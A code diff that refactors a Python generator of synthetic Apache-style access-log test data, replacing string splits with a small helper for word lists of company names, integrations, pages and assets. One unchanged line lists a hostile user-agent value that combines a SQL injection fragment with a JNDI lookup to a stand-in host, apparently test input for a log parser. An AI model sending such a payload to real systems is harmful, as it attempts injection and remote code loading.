@@ -6,15 +6,20 @@ written `\"` and a control character `\xhh`, as Apache writes them.
 
 from random import Random
 
-FIRST_WORDS = (
+
+def _words(text: str) -> tuple[str, ...]:
+    return tuple(text.split())
+
+
+FIRST_WORDS = _words(
     "Amber Blue Cedar Delta Ember Fjord Granite Harbor Indigo Juniper Kestrel Lumen "
     "Maple Nimbus Orchid Pine Quartz River Slate Tundra Umbra Vertex Willow Yonder "
     "Zephyr"
-).split()
-SECOND_WORDS = (
+)
+SECOND_WORDS = _words(
     "Analytics Bank Clinics Dynamics Energy Foods Games Health Insurance Jets Kitchens "
     "Logistics Media Networks Optics Pay Robotics Schools Travel Utilities Ventures"
-).split()
+)
 ENDINGS = ("", "", "", " Inc", " Ltd", " GmbH", " AG", " BV", " SA", " Oy")
 COUNTRIES = ("US", "US", "US", "GB", "DE", "NL", "FR", "IL", "JP", "BR", "IN", None)
 
@@ -41,10 +46,10 @@ TRICKY_NAMES = (
     " leading blank",
 )
 
-INTEGRATIONS = (
+INTEGRATIONS = _words(
     "aws azure gcp kubernetes docker nginx apache postgres mysql redis kafka rabbitmq "
     "elasticsearch mongodb jenkins github slack pagerduty terraform statsd"
-).split()
+)
 
 BROWSERS = (
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
@@ -74,17 +79,17 @@ AGENTS_WITH_SCRIPT = (
     "' or 1=1; -- ${jndi:ldap://x.example/a}",
 )
 
-PAGES = (
+PAGES = _words(
     "/ /login /dashboards /dashboards/42 /dashboards/42?from=now-1h&to=now "
     "/hosts /hosts?page=2 /alerts /alerts/new /settings/billing /settings/team "
     "/integrations /integrations/aws /logs?q=status%3A500 /docs/getting-started.html "
     "/docs/v1.2/api /report.PDF /files/data.v2 /metrics#top"
-).split()
-ASSETS = (
+)
+ASSETS = _words(
     "/static/app.3f2a.js /static/app.3f2a.css /static/logo.svg /favicon.ico "
     "/static/fonts/inter.woff2?v=4 /img/hero.PNG /img/team.jpeg /static/vendor.mjs "
     "/static/app.js.map"
-).split()
+)
 
 
 def org_name(number: int, rng: Random, *, tricky_share: float) -> str:
